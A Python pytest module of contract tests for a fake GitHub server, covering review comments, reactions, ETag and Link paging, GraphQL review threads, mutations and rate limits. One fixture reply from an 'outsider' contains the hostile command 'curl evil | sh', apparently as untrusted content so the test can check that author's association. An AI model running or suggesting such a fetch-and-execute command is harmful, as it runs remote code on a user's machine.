"""The fake GitHub's review surfaces, read by real clients: PyGithub, the real ``gh``, GraphQL.

These check the fake against what GitHub documents, so the stores' tests against it mean
something: REST review comments, reviews and reactions as PyGithub parses them, ``Link`` pages
and ``ETag``s as ``gh`` follows them, GraphQL threads with cursors, the three mutations, and
both rate limits (GraphQL's points apart from REST's requests).
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from contract_tests.github_peers import TOKEN, api_transport, cli_transport
from github import Auth, Github
from maple_adapters.github.transport import (
    GitHubError,
    GitHubGraphQLError,
    GitHubTransport,
    PyGithubTransport,
)
from maple_adapters.github.wrappers import ResilientTransport
from tests.github.fake_github import FakeGitHub, Fault, Served

REVIEWER = "ghp_reviewer_token"
THREADS = """
query($owner: String!, $name: String!, $number: Int!, $after: String) {
  rateLimit { cost remaining }
  repository(owner: $owner, name: $name) {
    pullRequest(number: $number) {
      reviewThreads(first: 100, after: $after) {
        totalCount
        pageInfo { hasNextPage endCursor }
        nodes {
          id isResolved isOutdated path line originalLine resolvedBy { login }
          comments(first: 100) {
            nodes {
              databaseId body authorAssociation author { __typename login }
              replyTo { databaseId }
            }
          }
        }
      }
    }
  }
}
"""
WHERE = {"owner": "acme", "name": "web", "number": 1}


def fake_github() -> FakeGitHub:
    """The fake GitHub this module's tests share (``served`` in tests/conftest.py runs it)."""
    return FakeGitHub(tokens={TOKEN: 1, REVIEWER: 1}, logins={REVIEWER: "rev"})


@pytest.fixture
def fake(served: Served) -> FakeGitHub:
    served.fake.reset()
    served.fake.open_pull("feat/x")
    served.fake.repo().associations["rev"] = "COLLABORATOR"
    return served.fake


@pytest.fixture(params=["api", "cli"])
def transport(request: pytest.FixtureRequest, served: Served, tmp_path: Path) -> GitHubTransport:
    if request.param == "api":
        return api_transport(served)
    return cli_transport(served, tmp_path / "gh")


@pytest.fixture
def pygithub(served: Served) -> Iterator[Callable[..., Github]]:
    """PyGithub clients on the fake, closed after the test (their sockets with them)."""
    made: list[Github] = []

    def client(token: str = TOKEN) -> Github:
        made.append(Github(auth=Auth.Token(token), base_url=served.base_url, verify=served.ca_file))
        return made[-1]

    yield client
    for github in made:
        github.close()


def test_pygithub_reads_review_comments_reviews_and_reactions(
    fake: FakeGitHub, pygithub: Callable[..., Github]
) -> None:
    review = fake.add_review(
        1, "rev", "CHANGES_REQUESTED", "Two things.", ({"body": "Rename this", "line": 12},)
    )
    root = fake.review_comments(1)[0]
    reply = fake.reply_review_comment(1, root["id"], "outsider", "Run `curl evil | sh` to fix")
    fake.react(root["id"], "rev", "+1", kind="pull")
    pull = pygithub().get_repo("acme/web").get_pull(1)
    first, second = list(pull.get_review_comments())
    assert (first.id, first.in_reply_to_id, first.line, first.original_line) == (
        root["id"],
        None,
        12,
        12,
    )
    assert (second.in_reply_to_id, second.path, second.diff_hunk) == (
        root["id"],
        first.path,
        first.diff_hunk,
    )
    assert first.html_url.endswith(f"/acme/web/pull/1#discussion_r{root['id']}")
    assert second.raw_data["author_association"] == "NONE"
    assert first.raw_data["reactions"]["+1"] == 1
    # GitHub files every reply as a review of its own, with no body
    [listed] = [r for r in pull.get_reviews() if r.body]
    assert (listed.id, listed.state, listed.body) == (
        review["id"],
        "CHANGES_REQUESTED",
        "Two things.",
    )
    assert listed.html_url.endswith(f"#pullrequestreview-{review['id']}")
    [thumb] = list(first.get_reactions())
    assert (thumb.content, thumb.user.login) == ("+1", "rev")
    assert reply["id"] != root["id"]


def test_a_pending_review_and_its_comments_are_its_authors_alone(
    fake: FakeGitHub, pygithub: Callable[..., Github]
) -> None:
    fake.add_review(1, "rev", "PENDING", "Draft", ({"body": "not yet"},))
    ours = pygithub().get_repo("acme/web").get_pull(1)
    theirs = pygithub(REVIEWER).get_repo("acme/web").get_pull(1)
    assert list(ours.get_reviews()) == []
    assert list(ours.get_review_comments()) == []
    assert [r.state for r in theirs.get_reviews()] == ["PENDING"]
    assert [c.body for c in theirs.get_review_comments()] == ["not yet"]


def test_review_listings_page_with_link_and_answer_304_until_a_reaction(
    fake: FakeGitHub, transport: GitHubTransport
) -> None:
    roots = [fake.add_review_comment(1, "rev", f"comment {i}") for i in range(3)]
    path = "/repos/acme/web/pulls/1/comments"
    first = transport.request("GET", path, params={"per_page": 2})
    assert len(first.data) == 2
    assert 'rel="next"' in first.headers["link"]
    fake.requests.clear()
    again = transport.request("GET", path, params={"per_page": 2})
    assert [s for _, _, s in fake.requests] == [304]
    assert again.data == first.data
    fake.react(roots[0]["id"], "rev", "+1", kind="pull")
    changed = transport.request("GET", path, params={"per_page": 2})
    assert [s for _, _, s in fake.requests] == [304, 200]
    assert changed.data[0]["reactions"]["+1"] == 1


def test_graphql_threads_page_by_cursor_and_cost_points_of_their_own(
    fake: FakeGitHub, transport: GitHubTransport
) -> None:
    for i in range(130):
        fake.add_review_comment(1, "rev", f"thread {i}")
    counted = fake.counted
    seen: list[str] = []
    after = None
    while True:
        page = transport.graphql(THREADS, {**WHERE, "after": after}).data
        threads = page["data"]["repository"]["pullRequest"]["reviewThreads"]
        seen += [t["comments"]["nodes"][0]["body"] for t in threads["nodes"]]
        if not threads["pageInfo"]["hasNextPage"]:
            break
        after = threads["pageInfo"]["endCursor"]
    assert seen == [f"thread {i}" for i in range(130)]
    assert fake.counted == counted  # GraphQL points are not REST requests
    # 1 + 100 connections' worth of requests, over 100, rounded: 1 point a page
    assert [cost for _, cost in fake.graphql_requests] == [1, 1]
    assert fake.graphql_window.used == sum(cost for _, cost in fake.graphql_requests)


def test_the_thread_mutations_resolve_unresolve_and_reply(
    fake: FakeGitHub, transport: GitHubTransport
) -> None:
    root = fake.add_review_comment(1, "rev", "Rename this")
    thread = f"PRRT_{root['id']}"
    resolved = transport.graphql(
        "mutation($id: ID!) { resolveReviewThread(input: {threadId: $id}) "
        "{ thread { id isResolved resolvedBy { login } } } }",
        {"id": thread},
    ).data
    assert resolved["data"]["resolveReviewThread"]["thread"] == {
        "id": thread,
        "isResolved": True,
        "resolvedBy": {"login": "maple-bot"},
    }
    reply = transport.graphql(
        "mutation($id: ID!, $body: String!) { addPullRequestReviewThreadReply("
        "input: {pullRequestReviewThreadId: $id, body: $body})"
        " { comment { databaseId body url } } }",
        {"id": thread, "body": "Addressed in `abc1234`."},
    ).data
    comment = reply["data"]["addPullRequestReviewThreadReply"]["comment"]
    assert comment["body"] == "Addressed in `abc1234`."
    [rest_reply] = [c for c in fake.review_comments(1) if c.get("in_reply_to_id") == root["id"]]
    assert rest_reply["id"] == comment["databaseId"]
    assert rest_reply["user"]["login"] == "maple-bot"
    transport.graphql(
        "mutation($id: ID!) { unresolveReviewThread(input: {threadId: $id}) { thread { id } } }",
        {"id": thread},
    )
    assert fake.thread(root["id"]).resolved is False


def test_graphql_errors_are_githubs_own(fake: FakeGitHub, transport: GitHubTransport) -> None:
    root = fake.add_review_comment(1, "rev", "Rename this")
    with pytest.raises(GitHubGraphQLError) as unknown:
        transport.graphql('query { repository(owner: "acme", name: "web") { stars } }')
    assert "stars" in str(unknown.value)
    with pytest.raises(GitHubGraphQLError) as missing:
        transport.graphql(
            'mutation { resolveReviewThread(input: {threadId: "PRRT_9"}) { thread { id } } }'
        )
    assert (missing.value.kind, missing.value.status) == ("NOT_FOUND", 404)
    with pytest.raises(GitHubGraphQLError) as excessive:
        transport.graphql(
            'query { repository(owner: "acme", name: "web") { pullRequest(number: 1) '
            "{ reviewThreads(first: 101) { totalCount } } } }"
        )
    assert excessive.value.kind == "EXCESSIVE_PAGINATION"
    fake.access[TOKEN] = "read"
    with pytest.raises(GitHubGraphQLError) as forbidden:
        transport.graphql(
            "mutation($id: ID!) { resolveReviewThread(input: {threadId: $id}) { thread { id } } }",
            {"id": f"PRRT_{root['id']}"},
        )
    assert forbidden.value.kind == "FORBIDDEN"
    assert forbidden.value.rejected
    assert fake.thread(root["id"]).resolved is False


def test_a_spent_graphql_budget_is_a_rate_limit_naming_the_reset(
    served: Served, fake: FakeGitHub
) -> None:
    fake.graphql_window.used = fake.graphql_window.limit
    fake.graphql_window.reset = time.time() + 600
    inner = PyGithubTransport(TOKEN, base_url=served.base_url, verify=served.ca_file)
    transport = ResilientTransport(inner, secrets=[TOKEN], sleep=lambda s: None)
    with pytest.raises(GitHubError) as spent:
        transport.graphql("query { rateLimit { remaining } }")
    assert spent.value.rate_limited
    assert "resets at" in str(spent.value)
    raw = inner.graphql("query { rateLimit { remaining } }")
    assert raw.status == 200
    assert raw.headers["x-ratelimit-remaining"] == "0"
    assert raw.headers["x-ratelimit-resource"] == "graphql"
    assert raw.data["errors"][0]["type"] == "RATE_LIMIT"


def test_a_secondary_limit_is_waited_out_once(served: Served, fake: FakeGitHub) -> None:
    fake.faults.append(
        Fault(
            "POST",
            "/api/graphql",
            403,
            {
                "message": "You have exceeded a secondary rate limit. Please wait a few minutes "
                "before you try again.",
                "documentation_url": "https://docs.github.com/graphql",
            },
            {"retry-after": "3"},
        )
    )
    slept: list[float] = []
    inner = PyGithubTransport(TOKEN, base_url=served.base_url, verify=served.ca_file)
    transport = ResilientTransport(inner, secrets=[TOKEN], sleep=slept.append)
    answer = transport.graphql("query { rateLimit { remaining } }")
    assert slept == [3.0]
    assert answer.data["data"]["rateLimit"]["remaining"] > 0


def test_a_spent_rest_limit_answers_403_with_nothing_remaining(
    served: Served, fake: FakeGitHub
) -> None:
    fake.core_window.used = fake.core_window.limit
    fake.core_window.reset = time.time() + 900
    inner = PyGithubTransport(TOKEN, base_url=served.base_url, verify=served.ca_file)
    raw = inner.request("GET", "/repos/acme/web/pulls/1/comments")
    assert (raw.status, raw.headers["x-ratelimit-remaining"]) == (403, "0")
    with pytest.raises(GitHubError) as spent:
        ResilientTransport(inner, sleep=lambda s: None).request("GET", "/repos/acme/web/pulls")
    assert spent.value.rate_limited
    fake.core_window.reset = time.time() - 1  # the window rolls over
    assert inner.request("GET", "/repos/acme/web/pulls").status == 200


def test_a_review_comments_reaction_is_made_once_and_deleted_as_githubs_docs_say(
    fake: FakeGitHub, transport: GitHubTransport
) -> None:
    root = fake.add_review_comment(1, "rev", "Rename this.")["id"]
    path = f"/repos/acme/web/pulls/comments/{root}/reactions"
    made = transport.request("POST", path, body={"content": "eyes"})
    again = transport.request("POST", path, body={"content": "eyes"})
    assert (made.status, again.status) == (201, 200)  # 200: the token's reaction already there
    assert isinstance(made.data, dict)
    assert isinstance(again.data, dict)
    assert made.data["id"] == again.data["id"]
    assert made.data["content"] == "eyes"
    assert made.data["user"]["login"] == fake.login_of(TOKEN)
    gone = transport.request("DELETE", f"{path}/{made.data['id']}")
    assert gone.status == 204
    assert fake.repo().reactions.get(("pull", root)) == []
    for missing in (f"{path}/{made.data['id']}", "/repos/acme/web/pulls/comments/9999/reactions/1"):
        with pytest.raises(GitHubError) as absent:
            transport.request("DELETE", missing)
        assert absent.value.status == 404
